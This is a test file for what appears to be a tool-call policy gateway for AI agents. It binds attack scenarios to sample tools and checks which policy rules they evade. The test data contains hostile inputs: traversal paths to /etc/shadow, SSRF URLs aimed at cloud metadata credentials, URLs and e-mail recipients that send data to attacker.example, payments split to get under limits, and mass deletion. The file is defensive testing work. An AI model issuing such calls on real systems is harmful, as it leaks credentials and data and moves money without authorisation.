import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { bind } from "../../src/attack/bind/bind.ts";
import { toolsIn } from "../../src/attack/bind/choose.ts";
import { readAttacks } from "../../src/attack/read.ts";
import type { OwnTool, Plain } from "../../src/catalogue/attacks/result.ts";
import { ROOT } from "../support/gateway.ts";
import { ownTool, triedPolicy } from "./bound-support.ts";

// What an attack of the database becomes with a user's tools and policy. Nothing is played.

const { attacks } = readAttacks(join(ROOT, "attacks"));

const bound = async (name: string, policy: Plain, tools: readonly OwnTool[]) => {
  const attack = attacks.find((one) => one.name === name);
  if (attack === undefined) {
    throw new Error(`no attack ${name}`);
  }
  return bind(attack, tools, triedPolicy(policy, tools));
};

/** The tools of an attack that stand for a user's, as if they were theirs. */
const ownOf = (name: string): readonly OwnTool[] => {
  const scenario = attacks.find((one) => one.name === name)?.scenario;
  const byName = new Map(
    (scenario === undefined ? [] : toolsIn(scenario)).flatMap(({ definition, stands_for: wanted }) =>
      wanted === undefined ? [] : [[definition.name, definition] as const],
    ),
  );
  return [...byName.values()].map((definition) => ownTool(definition));
};

describe("an attack whose tools stand for a user's", () => {
  const standing = attacks
    .map(({ name, scenario }) => [name, toolsIn(scenario).filter((tool) => tool.stands_for)] as const)
    .filter(([, tools]) => tools.length > 0);

  it.each(standing)("fits its own: %s", async (name, tools) => {
    const hide = tools.filter((tool) => tool.stands_for?.withheld).map(({ definition }) => definition.name);
    const found = await bound(name, { default: "allow", hide }, ownOf(name));
    expect(found).toHaveProperty("roles");
    const roles = "roles" in found ? found.roles : new Map<string, never>();
    expect(new Map([...roles].map(([to, role]) => [to, role.tool.profile.name]))).toEqual(
      new Map(tools.map(({ definition: { name: own } }) => [own, own])),
    );
  });
});

const text = { type: "string" };
const tool = (name: string, description: string, properties: object, required: readonly string[] = []) =>
  ownTool({ name, description, inputSchema: { type: "object", properties, required } });

const READ = tool("read_file", "Reads a file.", { path: text }, ["path"]);
const WRITE = tool("write_file", "Writes a file.", { path: text, content: text }, ["path"]);
const FETCH = tool("fetch", "Fetches a URL and returns its text.", { url: text }, ["url"]);
const address = { ...text, description: "Address of a recipient." };
const MAIL = tool("send_email", "Sends an e-mail.", { to: address, cc: address, subject: text, body: text }, [
  "to",
  "subject",
  "body",
]);
const PAY = tool(
  "create_payout",
  "Pays money out to an account.",
  { amount: { type: "number" }, iban: text },
  ["amount", "iban"],
);

const conditions = (...list: readonly object[]) => ({ require: [{ conditions: list }] });
const on = (path: string, op: string, value: unknown) => ({ path, op, value });

interface Calls {
  readonly tool: string;
  readonly given: Plain;
}

/** What is called of a tool, once each, with what the policy says of it. */
const called = async (name: string, own: OwnTool, rule: object): Promise<readonly string[]> => {
  const policy = { tools: { [own.profile.name]: rule } };
  const found = await bound(name, policy, [own]);
  if ("why" in found) {
    return [found.why];
  }
  const steps = found.scenario.steps.flatMap((step) => ("repeat" in step ? step.steps : [step]));
  const calls = steps.flatMap((step): readonly Calls[] =>
    "call" in step ? [{ tool: step.call, given: step.arguments ?? {} }] : [],
  );
  const { judge } = triedPolicy(policy, [own]);
  const codes = await Promise.all(calls.map(async (call) => (await judge([call]))[0]));
  return calls.map(({ given }, at) => `${codes[at] ?? ""}: ${JSON.stringify(given)}`);
};

describe("a value that a rule is evaded with", () => {
  const folder = "/home/ana/project/";
  it.each([
    [on("args.path", "starts_with", folder)],
    [on('args["path"]', "starts_with", folder)],
    [on("args.path", "contains", folder)],
    [on("args.*", "starts_with", folder)],
    [on("args.path", "regex", "^/home/ana/project/[A-Za-z0-9_./-]+$")],
    [{ any: [on("args.path", "within", ["/home/ana/project"]), on("args.path", "starts_with", folder)] }],
    [{ any: [on("args.path", "within", ["/srv"]), on("args.path", "starts_with", folder)] }],
  ])("is a path in the words of %j", async (condition) => {
    expect(await called("path-escape", READ, conditions(condition))).toContain(
      'allowed: {"path":"/home/ana/project/../../etc/shadow"}',
    );
  });

  it("is a path that is written or deleted", async () => {
    const rule = conditions(on("args.path", "starts_with", folder));
    const given = 'allowed: {"path":"/home/ana/project/../../etc/shadow"}';
    expect(await called("path-escape", WRITE, rule)).toContain(given);
  });

  it.each([
    ["starts_with", "https://docs.python.org", "https://docs.python.org@169.254.169.254/"],
    ["regex", "^https?://docs\\.python\\.org", "https://docs.python.org@169.254.169.254/"],
    ["contains", "docs.python.org", "https://docs.python.org@169.254.169.254/"],
    ["ends_with", ".html", "http://169.254.169.254/latest/meta-data/iam/security-credentials/app#.html"],
  ])("is an address for %s %s", async (op, value, begins) => {
    const rule = conditions(on("args.url", op, value));
    const [first = ""] = await called("ssrf-metadata-address", FETCH, rule);
    expect(first).toContain(`allowed: {"url":"${begins}`);
  });

  it("is a host that goes on, and one that is allowed and leads elsewhere", async () => {
    const rule = conditions(on("args.url", "starts_with", "https://docs.python.org"));
    expect(await called("exfiltration-in-a-url", FETCH, rule)).toEqual([
      'allowed: {"url":"https://docs.python.org@attacker.example/p.png?d=CANARY-NOTES"}',
    ]);
    const inside = conditions(on("args.url", "starts_with", "https://docs.python.org/3/"));
    expect(await called("ssrf-by-redirect", FETCH, inside)).toEqual([
      'allowed: {"url":"https://docs.python.org/3/go?to=//169.254.169.254/latest/"}',
    ]);
  });

  it.each([
    ["look-alike-recipient", on("args.to", "regex", "@corp\\.ch"), "ana@corp.ch.attacker.example"],
    ["look-alike-recipient", on("args.to", "contains", "@corp.ch"), "ana@corp.ch.attacker.example"],
    ["encoded-exfiltration", on("args.to", "ends_with", "corp.ch"), "drop@attacker-corp.ch"],
    ["encoded-exfiltration", on("args.to", "ends_with", "@corp.ch"), "drop@attacker.example, ana@corp.ch"],
    ["encoded-exfiltration", on("args.to", "contains", "@corp.ch"), "drop@corp.ch.attacker.example"],
    ["recipient-list", on("args.to", "contains", "@corp.ch"), "ana@corp.ch, drop@attacker.example"],
  ])("is a recipient of %s for %j", async (name, condition, to) => {
    const only = tool("send_email", "Sends an e-mail.", { to: address, body: text }, ["to", "body"]);
    expect((await called(name, only, conditions(condition))).join("\n")).toMatch(
      new RegExp(`allowed: .*"to":"${to.replaceAll(".", "\\.")}"`, "u"),
    );
  });

  it("goes where the rule does not look, and what it asks for is where it looks", async () => {
    const rule = conditions(on("args.to", "in", ["team@corp.ch"]));
    const [first = ""] = await called("encoded-exfiltration", MAIL, rule);
    expect(first).toMatch(/^allowed: /u);
    expect(first).toContain('"cc":"drop@attacker.example"');
    expect(first).toContain('"to":"team@corp.ch"');
  });

  it("is none where the rule reads what is meant", async () => {
    const refused = [
      await called(
        "ssrf-metadata-address",
        FETCH,
        conditions(on("args.url", "host_in", ["docs.python.org"])),
      ),
      await called("path-escape", READ, conditions(on("args.path", "within", ["/home/ana/project"]))),
      await called("path-escape", READ, { deny_if: [{ conditions: [on("args.path", "contains", "..")] }] }),
    ].flat();
    expect(refused.length).toBeGreaterThan(3);
    expect(refused.filter((one) => one.startsWith("allowed"))).toEqual([]);
  });
});

describe("an amount", () => {
  const split = async (rule: object) => {
    const found = await bound("split-payments", { tools: { create_payout: rule } }, [PAY]);
    return "why" in found ? found.why : found.scenario;
  };
  const sum = (max: number) => ({
    limits: [{ counter: "paid", window: "day", max, increment_from: "args.amount" }],
  });
  const at = (amount: number, repeat: number, times: number) => ({
    steps: [{ repeat, steps: [{ arguments: { amount } }] }],
    through: [{ with: { amount }, times }],
  });

  it.each([
    ["the scenario's own", sum(5000), at(900, 10, 6)],
    ["the largest below a ceiling", conditions(on("args.amount", "lte", 500)), at(500, 10, 6)],
    [
      "the largest that is not denied",
      { deny_if: conditions(on("args.amount", "gt", 100)).require },
      at(100, 10, 6),
    ],
    ["one with which the sum is reached", sum(1_000_000), at(9_000, 112, 112)],
    [
      "of a ceiling that reaches the sum",
      { ...conditions(on("args.amount", "lte", 500)), ...sum(20_000) },
      at(500, 41, 41),
    ],
  ])("is %s", async (_, rule, wanted) => {
    expect(await split(rule)).toMatchObject(wanted);
  });
});

describe("a limit that is higher than what is played", () => {
  it.each([
    [{ rate_limit: { max: 600, window: "hour" } }, "600 an hour"],
    [{ limits: [{ counter: "read", window: "day", max: 9_000 }] }, "9000 a day"],
  ])("is said: %j", async (rule, limit) => {
    expect(await called("runaway-loop", READ, rule)).toEqual([
      `Your limit (${limit}) is higher than the 500 calls that are played.`,
    ]);
  });

  it("is none where there is none, or another reason", async () => {
    expect(await called("runaway-loop", READ, {})).toEqual(['allowed: {"path":"x"}']);
    const shut = {
      rate_limit: { max: 600, window: "hour" },
      require: [{ conditions: [on("args.path", "eq", 5)] }],
    };
    expect(await called("runaway-loop", READ, shut)).toEqual([expect.stringContaining("path")]);
  });

  it("is not that of calls one by one, which go on as often as it takes", async () => {
    const DELETE = tool("delete_note", "Deletes a note.", { id: text }, ["id"]);
    const found = await bound(
      "mass-deletion-one-by-one",
      { tools: { delete_note: { rate_limit: { max: 100, window: "hour" } } } },
      [DELETE],
    );
    expect(found).toMatchObject({ scenario: { steps: [{ repeat: 4 }], through: [{ times: 101 }] } });
  });
});

describe("a batch", () => {
  const batch = (description: string) =>
    tool("batch_exec", description, { commands: { type: "array", items: {} } }, ["commands"]);
  const STOP = tool("shutdown", "Stops the editor.", {});
  const commands = async (description: string, rule: object) => {
    const policy = { default: "allow", hide: ["shutdown"], tools: { batch_exec: rule } };
    const found = await bound("meta-tool-batch", policy, [batch(description), STOP]);
    return "why" in found ? found.why : found.scenario.steps;
  };
  const played = (name: string) => [
    { call: "batch_exec", arguments: { commands: [{ [name]: "list_servers" }, { [name]: "shutdown" }] } },
  ];
  const runs = "Runs a list of tools one after the other, any of them by its name.";

  it("has the member that the rule, or else the description, has", async () => {
    const rule = { deny_if: [{ conditions: [on("args.commands[*].command", "in", ["run_tool"])] }] };
    expect(await commands(runs, rule)).toEqual(played("command"));
    expect(await commands(`${runs} Each is { action, params }.`, {})).toEqual(played("action"));
    expect(await commands(runs, {})).toContain("could stand for run_batch");
  });
});

describe("paths of assets", () => {
  it("are no paths of files", async () => {
    const SAVE = tool("save_asset", "Saves an asset.", { asset_path: text }, ["asset_path"]);
    const LIST = tool("list_assets", "Lists assets.", { directory: text });
    for (const name of ["overwriting-agent-configuration", "path-escape"]) {
      expect(await bound(name, { default: "allow" }, [SAVE, LIST])).toHaveProperty("why");
    }
    const IMPORT = tool("import_asset", "Imports a file as an asset.", { file_path: text, asset_path: text });
    expect(await called("path-escape", IMPORT, {})).toContain('allowed: {"file_path":"../../etc/shadow"}');
  });
});
